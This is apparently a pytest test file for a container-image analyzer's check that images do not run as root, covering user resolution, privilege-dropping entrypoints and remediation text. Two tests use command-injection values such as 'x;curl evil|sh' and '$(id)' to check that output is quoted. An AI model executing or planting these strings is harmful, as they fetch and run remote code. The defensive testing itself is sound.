"""Who starts as root fails 4.1, whatever name root has."""

import shlex
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest

from ocianalyze.controls.cis_docker.c4_01_user import CONTROL, evaluate
from ocianalyze.detectors.captured import OBSERVER
from ocianalyze.filesystem.written import written
from ocianalyze.limits import DEFAULT
from ocianalyze.model.document import read_config
from ocianalyze.model.finding import Status
from tests.images import File, Layer, image, symlink

PASSWD = b"root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:\nbad:x::5::/:\napp:x:1000:1000::/:\n"
GROUP = b"root:x:0:\napp:x:1000:\n"
ACCOUNTS: Layer = {"etc/passwd": PASSWD, "etc/group": GROUP}
PROGRAM = File(b"\x7fELF", mode=0o755)


@pytest.mark.parametrize(
    "user", ["", "0", "root", "0:0", "root:app", "00", "+0", "toor", "bad", ":app"]
)
def test_every_spelling_of_root_fails(user: str) -> None:
    verdict = CONTROL.evaluate(image(ACCOUNTS, config={"User": user}))
    assert (verdict.status, verdict.reason) == (Status.FAIL, "runs-as-root")
    assert verdict.evidence[0].pointer == "/config/User"
    assert len(verdict.summary) <= 60


@pytest.mark.parametrize(
    ("user", "notes"),
    [
        ("app", {"kubelet-cannot-verify"}),
        ("1000", set()),
        ("1000:0", {"gid-0"}),
        ("1234", {"no-passwd-entry", "gid-0"}),
        ("1234:1234", {"no-passwd-entry"}),
        ("1000:1000", set()),
    ],
)
def test_every_other_user_passes_with_notes(user: str, notes: set[str]) -> None:
    verdict = CONTROL.evaluate(image(ACCOUNTS, config={"User": user}))
    assert verdict.status is Status.PASS
    assert {e.reason for e in verdict.evidence if e.reason} == notes
    assert {e.severity for e in verdict.evidence} == {"info"}


def test_number_passes_in_an_image_from_scratch() -> None:
    verdict = CONTROL.evaluate(image({"app": PROGRAM}, config={"User": "65532"}))
    assert verdict.status is Status.PASS
    assert "no-passwd-entry" in {e.reason for e in verdict.evidence}


@pytest.mark.parametrize(
    ("layer", "user", "cure"),
    [
        (ACCOUNTS, "nobody", "RUN useradd --uid 10001"),
        (ACCOUNTS, "app:nothing", "RUN groupadd --gid 10001 GROUP, or leave it out: USER app"),
        (ACCOUNTS, "-1", "name numbers from 1 to 2147483647: USER 10001:10001"),
        (ACCOUNTS, "2147483648", "name numbers from 1 to 2147483647"),
        (ACCOUNTS, "app ", "write it without spaces: USER app"),
        ({}, "app", "or name a number: USER 10001"),
        ({}, "root", "RUN useradd"),
    ],
)
def test_user_that_cannot_be_resolved_fails(layer: Layer, user: str, cure: str) -> None:
    verdict = CONTROL.evaluate(image(layer, config={"User": user}))
    assert (verdict.status, verdict.reason) == (Status.FAIL, "unresolvable-user")
    assert cure in verdict.remediation


def test_account_file_of_the_final_filesystem_counts() -> None:
    """A whiteout, a later version and a link all change who `app` is."""
    config = {"User": "app"}
    root = b"app:x:0:0::/:\n"
    assert CONTROL.evaluate(image(ACCOUNTS, {"etc/passwd": root}, config=config)).status == "fail"
    gone = CONTROL.evaluate(image(ACCOUNTS, {"etc/.wh.passwd": b""}, config=config))
    assert gone.reason == "unresolvable-user"
    linked: Layer = {"etc/passwd": symlink("../usr/lib/passwd"), "usr/lib/passwd": root}
    assert CONTROL.evaluate(image(linked, config=config)).reason == "runs-as-root"


@pytest.mark.parametrize("user", ["app", "app:nothing", "nobody"])
def test_named_user_is_not_judged_while_a_layer_is_unread(user: str) -> None:
    verdict = CONTROL.evaluate(image(ACCOUNTS, None, config={"User": user}))
    assert (verdict.status, verdict.reason) == (Status.NOT_EVALUATED, "layers-unread")


@pytest.mark.parametrize("user", ["", "root", "0"])
def test_root_fails_while_a_layer_is_unread(user: str) -> None:
    assert CONTROL.evaluate(image(ACCOUNTS, None, config={"User": user})).status is Status.FAIL


@pytest.mark.parametrize("user", ["1000", "1000:1000", "65532"])
def test_number_does_not_pass_while_a_layer_is_unread(user: str) -> None:
    """Its groups and sudo rules may lie there."""
    verdict = CONTROL.evaluate(image(ACCOUNTS, None, config={"User": user}))
    assert (verdict.status, verdict.reason) == (Status.NOT_EVALUATED, "layers-unread")


def test_power_that_was_found_counts_while_a_layer_is_unread() -> None:
    layer: Layer = {"etc/passwd": PASSWD, "etc/group": GROUP + b"wheel:x:27:app\n"}
    verdict = CONTROL.evaluate(image(layer, None, config={"User": "1000"}))
    assert (verdict.status, verdict.reason) == (Status.NEEDS_REVIEW, "privileged-group")


@pytest.mark.parametrize(
    "document", [b'{"config":{"User":1000}}', b'{"config":{"user":[{}]}}', b'{"config":[1]}']
)
def test_user_of_the_wrong_type_is_not_judged(document: bytes) -> None:
    config, _ = read_config(document, DEFAULT)
    verdict = CONTROL.evaluate(replace(image(ACCOUNTS), config=config))
    assert (verdict.status, verdict.reason) == (Status.NOT_EVALUATED, "config-field-unread")
    assert verdict.evidence[0].pointer in ("/config/User", "/config")


@pytest.mark.parametrize("user", ["x;curl evil|sh", "x\nRUN id", "$(id)", "x" * 99, "\u202ex"])
def test_hostile_user_is_quoted_or_left_out(user: str) -> None:
    verdict = CONTROL.evaluate(image(ACCOUNTS, config={"User": user}))
    named = verdict.remediation.partition("before USER ")[2].partition(": RUN")[0]
    assert shlex.split(named) in ([user], ["NAME"])
    assert verdict.remediation.isprintable()


@pytest.mark.parametrize("where", ["/a;curl evil|sh", "/a\nRUN id", "/" + "x" * 999])
def test_hostile_directory_is_quoted_or_left_out(where: str) -> None:
    verdict = CONTROL.evaluate(image({}, config={"WorkingDir": where}))
    named = verdict.remediation.partition("written below ")[2]
    assert shlex.split(named) in ([where], ["/app"])


def test_account_file_that_was_not_kept_is_no_missing_user() -> None:
    view = image(ACCOUNTS, config={"User": "app"}, observers=())
    verdict = CONTROL.evaluate(view)
    assert (verdict.status, verdict.reason) == (Status.NOT_EVALUATED, "accounts-unread")
    huge: Layer = {"etc/passwd": PASSWD * 20_000}
    assert CONTROL.evaluate(image(huge, config={"User": "app"})).reason == "accounts-unread"


SCRIPT = b'#!/bin/sh\nset -e\nif [ "$(id -u)" = 0 ]; then\n  %b\nfi\nexec "$@"\n'


@pytest.mark.parametrize(
    ("line", "helper"),
    [
        (b'exec gosu app "$0" "$@"', "usr/local/bin/gosu"),
        (b'exec su-exec app:app "$@"', "sbin/su-exec"),
        (b'exec setpriv --reuid=app --clear-groups "$@"', "usr/bin/setpriv"),
        (b'exec setpriv --reuid 1000 "$@"', "usr/bin/setpriv"),
        (b'exec runuser -u app -- "$@"', "sbin/runuser"),
        (b's6-setuidgid app "$@"', "bin/s6-setuidgid"),
        (b'exec chroot --userspec=app / "$@"', "usr/sbin/chroot"),
        (b"su -s /bin/sh -c 'x y' app", "bin/su"),
        (b"exec chpst -u app x", "usr/bin/chpst"),
    ],
)
def test_root_that_is_dropped_at_start_fails_with_its_own_reason(line: bytes, helper: str) -> None:
    layer: Layer = {**ACCOUNTS, "usr/local/bin/docker-entrypoint.sh": File(SCRIPT % line, 0o755)}
    config = {"Entrypoint": ["docker-entrypoint.sh"], "Cmd": ["serve"]}
    with_helper = image({**layer, helper: PROGRAM}, config=config)
    verdict = CONTROL.evaluate(with_helper)
    assert (verdict.status, verdict.reason) == (Status.FAIL, "drops-privileges-at-start")
    assert verdict.evidence[1].path == "usr/local/bin/docker-entrypoint.sh"
    assert CONTROL.evaluate(image(layer, config=config)).reason == "runs-as-root"


@pytest.mark.parametrize("line", [b'exec gosu root "$@"', b'echo "gosu app"', b"# gosu app"])
def test_script_that_stays_root_is_not_excused(line: bytes) -> None:
    layer: Layer = {
        **ACCOUNTS,
        "entrypoint.sh": File(SCRIPT % line, 0o755),
        "usr/local/bin/gosu": PROGRAM,
    }
    verdict = CONTROL.evaluate(image(layer, config={"Entrypoint": ["/entrypoint.sh"]}))
    assert verdict.reason == "runs-as-root"


@pytest.mark.parametrize(
    "config",
    [
        {"Entrypoint": ["/bin/sh", "-c", "exec gosu app serve"]},
        {"Entrypoint": ["gosu", "app"], "Cmd": ["serve"]},
        {"Entrypoint": ["tini", "--", "/start.sh"]},
    ],
)
def test_dropping_is_seen_in_the_config_and_behind_an_init(config: Mapping[str, object]) -> None:
    layer: Layer = {
        **ACCOUNTS,
        "usr/bin/gosu": PROGRAM,
        "usr/bin/tini": PROGRAM,
        "start.sh": File(b"#!/bin/sh\nexec gosu app serve\n", 0o755),
    }
    assert CONTROL.evaluate(image(layer, config=config)).reason == "drops-privileges-at-start"


@pytest.mark.parametrize(
    ("conf", "reason"),
    [
        (b"user  nginx;\nworker_processes auto;", "drops-privileges-at-start"),
        (b"#user nginx;\n", "runs-as-root"),
        (b"user root;\n", "runs-as-root"),
    ],
)
def test_nginx_names_the_user_of_its_workers(conf: bytes, reason: str) -> None:
    layer: Layer = {**ACCOUNTS, "etc/nginx/nginx.conf": conf, "usr/sbin/nginx": PROGRAM}
    config = {"Entrypoint": ["/docker-entrypoint.sh"], "Cmd": ["nginx", "-g", "daemon off;"]}
    assert CONTROL.evaluate(image(layer, config=config)).reason == reason


@pytest.mark.parametrize("group", ["sudo", "wheel", "docker", "disk", "shadow"])
def test_powerful_group_needs_review(group: str) -> None:
    layer: Layer = {"etc/passwd": PASSWD, "etc/group": GROUP + f"{group}:x:27:app\n".encode()}
    for user in ("app", "1000"):
        verdict = CONTROL.evaluate(image(layer, config={"User": user}))
        assert (verdict.status, verdict.reason) == (Status.NEEDS_REVIEW, "privileged-group")
    explicit = CONTROL.evaluate(image(layer, config={"User": "app:app"}))
    assert explicit.status is Status.PASS


def test_unused_account_is_offered() -> None:
    verdict = CONTROL.evaluate(image(ACCOUNTS))
    assert "unused-account" in {e.reason for e in verdict.evidence}
    assert verdict.remediation == "USER 1000:1000"
    assert verdict.origin == "author"


def test_reset_to_root_shows_both_steps() -> None:
    history: list[dict[str, Any]] = [
        {"created_by": "ADD rootfs.tar / # buildkit"},
        {"created_by": "USER app", "empty_layer": True},
        {"created_by": 'CMD ["sh"]', "empty_layer": True},
        {"created_by": "RUN make # buildkit"},
        {"created_by": "USER root", "empty_layer": True},
    ]
    view = image({**ACCOUNTS, "bin/sh": PROGRAM}, {}, config={"User": "root"}, history=history)
    verdict = CONTROL.evaluate(view)
    shown = [(e.step, e.origin) for e in verdict.evidence if e.reason == "user-reset-to-root"]
    assert shown == [(1, "base"), (4, "author")]
    assert (verdict.status, verdict.origin) == (Status.FAIL, "author")


@pytest.mark.parametrize(
    ("layer", "words"),
    [
        ({"etc/passwd": b"", "usr/sbin/useradd": PROGRAM}, "useradd"),
        ({"etc/passwd": b"", "bin/busybox": PROGRAM}, "adduser"),
        ({}, "COPY --chown"),
    ],
)
def test_remedy_fits_the_image(layer: Layer, words: str) -> None:
    assert words in CONTROL.evaluate(image(layer)).remediation


@pytest.mark.parametrize(
    ("user", "layer", "history", "status"),
    [
        ("ContainerAdministrator", {}, "", Status.FAIL),
        ("NT AUTHORITY\\SYSTEM", {}, "", Status.FAIL),
        ("User Manager\\ContainerAdministrator", {}, "", Status.FAIL),
        ("ContainerUser", {}, "", Status.PASS),
        ("app", {}, "", Status.PASS),
        ("", {}, "Apply image", Status.NEEDS_REVIEW),
        ("", {}, "FROM servercore:ltsc2022", Status.FAIL),
        ("", {}, "FROM nanoserver:ltsc2022", Status.PASS),
        (
            "",
            {"Files/Windows/System32/WindowsPowerShell/v1.0/powershell.exe": b"MZ"},
            "",
            Status.FAIL,
        ),
        ("", {"Files/Windows/System32/cmd.exe": b"MZ"}, "", Status.PASS),
    ],
)
def test_windows_has_its_own_names(user: str, layer: Layer, history: str, status: Status) -> None:
    view = image(layer, config={"User": user}, history=[history], os="windows")
    assert CONTROL.evaluate(view).status is status


def test_without_a_config_nothing_is_decided() -> None:
    verdict = CONTROL.evaluate(image(ACCOUNTS, has_config=False))
    assert verdict.status is Status.NOT_EVALUATED


def test_shadow_is_kept_and_never_shown() -> None:
    layer: Layer = {**ACCOUNTS, "etc/shadow": b"app:$6$notareal$hash:1::::::\n"}
    view = image(layer, observers=(OBSERVER,))
    assert view.read("etc/shadow") is not None
    assert "notareal" not in repr(CONTROL.evaluate(view))


@pytest.mark.parametrize(("config", "reason"), [(b"user nginx;\n", "drops"), (b"", "runs")])
def test_a_profile_may_leave_dropped_privileges_to_people(config: bytes, reason: str) -> None:
    layer: Layer = {"etc/nginx/nginx.conf": config, "usr/sbin/nginx": File(b"\x7fELF", mode=0o755)}
    view = image(layer, config={"Cmd": ["nginx"]})
    verdict = evaluate(view, accept_drop=True)
    expected = Status.NEEDS_REVIEW if reason == "drops" else Status.FAIL
    assert (verdict.status, verdict.reason.startswith(reason)) == (expected, True)
    assert evaluate(view).status is Status.FAIL


@pytest.mark.parametrize(
    ("user", "shown", "expected"),
    [
        ("Plainly1", "**** (8)", Status.PASS),
        ("Plainly1:Made2Up3", "**** (8):**** (8)", Status.PASS),
        ("48151623", "**** (8)", Status.PASS),
        ("Plainly1:48151623", "Plainly1:**** (8)", Status.PASS),
        ("root", "**** (4)", Status.FAIL),
        ("Plainly2", "**** (8)", Status.FAIL),
    ],
    ids=["name", "group", "number", "group-number", "root", "unknown"],
)
def test_a_masked_user_is_resolved_and_not_told(user: str, shown: str, expected: Status) -> None:
    passwd = b"root:x:0:0::/root:/bin/sh\nPlainly1:x:1000:1000::/:\n"
    accounts: Layer = {"etc/passwd": passwd, "etc/group": b"Made2Up3:x:1000:\n"}
    own = image(accounts, config={"User": user})
    verdict = evaluate(image(accounts, config={"User": shown}).knowing(written, own.config))
    assert verdict.status is expected
    hidden = [x for x, y in zip(user.split(":"), shown.split(":"), strict=True) if x != y]
    said = [verdict.summary, verdict.remediation, *(item.detail for item in verdict.evidence)]
    assert not [x for x in hidden if x != "root" and any(x in text for text in said)]
